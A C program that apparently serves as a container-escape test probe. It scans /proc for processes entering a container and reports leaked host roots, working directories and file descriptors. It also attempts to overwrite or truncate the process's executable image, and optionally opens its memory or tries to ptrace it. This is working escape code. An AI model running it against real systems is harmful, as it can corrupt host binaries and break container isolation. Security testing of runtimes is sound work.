/* SPDX-License-Identifier: Apache-2.0 */
/* grabber [all]: as an attacker in a container, look at every new process before it executes its program of
 * the image (one below /bin), for what it still holds of the host: a root or working directory that is not
 * the container's, a descriptor of a directory, an image that can be written. With "all", that anything can
 * be opened or traced is told as well. Prints "ready", then a line for each finding. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static struct stat own_root;

/** Whether @pid runs a program of the image, as seen now; a process that is gone counts as that. */
static int runs_a_program(const char *pid)
{
	char path[300], target[256];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	n = readlink(path, target, sizeof(target) - 1);
	if (n < 0)
		return errno == ENOENT || errno == ESRCH;
	target[n] = '\0';
	return strncmp(target, "/bin/", 5) == 0;
}

static void tell(const char *pid, const char *what)
{
	if (!runs_a_program(pid))
		printf("got %s of %s\n", what, pid);
}

/** A directory that is not on the container's root file system. */
static int leads_out(const char *pid, const char *name)
{
	char path[600];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%s/%s/.", pid, name);
	return stat(path, &st) == 0 && S_ISDIR(st.st_mode) &&
	       (st.st_dev != own_root.st_dev || st.st_ino != own_root.st_ino);
}

static void grab_fds(const char *pid)
{
	char path[300], name[300];
	struct dirent *entry;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		snprintf(name, sizeof(name), "fd/%s", entry->d_name);
		if (entry->d_name[0] != '.' && leads_out(pid, name))
			tell(pid, name);
	}
	if (dir)
		closedir(dir);
}

static void grab_image(const char *pid)
{
	char path[300];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0 && !runs_a_program(pid) && (pwrite(fd, "x", 1, 0) > 0 || ftruncate(fd, 0) == 0))
		printf("wrote the image of %s\n", pid);
	if (fd >= 0)
		close(fd);
}

static void grab_anything(const char *pid)
{
	static const char *const files[] = {"exe", "root/.", "mem", "fd/0", "cwd/."};

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		char path[300];
		int fd;

		snprintf(path, sizeof(path), "/proc/%s/%s", pid, files[i]);
		fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd < 0)
			continue;
		tell(pid, files[i]);
		close(fd);
	}
	if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0) {
		tell(pid, "ptrace");
		ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
	}
}

static void grab(const char *pid, int all)
{
	if (runs_a_program(pid))
		return;
	if (leads_out(pid, "root"))
		tell(pid, "root");
	if (leads_out(pid, "cwd"))
		tell(pid, "cwd");
	grab_fds(pid);
	grab_image(pid);
	if (all)
		grab_anything(pid);
}

int main(int argc, char **argv)
{
	int all = argc > 1 && strcmp(argv[1], "all") == 0;

	setvbuf(stdout, NULL, _IOLBF, 0);
	stat("/", &own_root);
	puts("ready");
	for (;;) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			if (entry->d_name[0] > '0' && entry->d_name[0] <= '9' &&
			    strcmp(entry->d_name, "1") != 0)
				grab(entry->d_name, all);
		}
		if (dir)
			closedir(dir);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
}
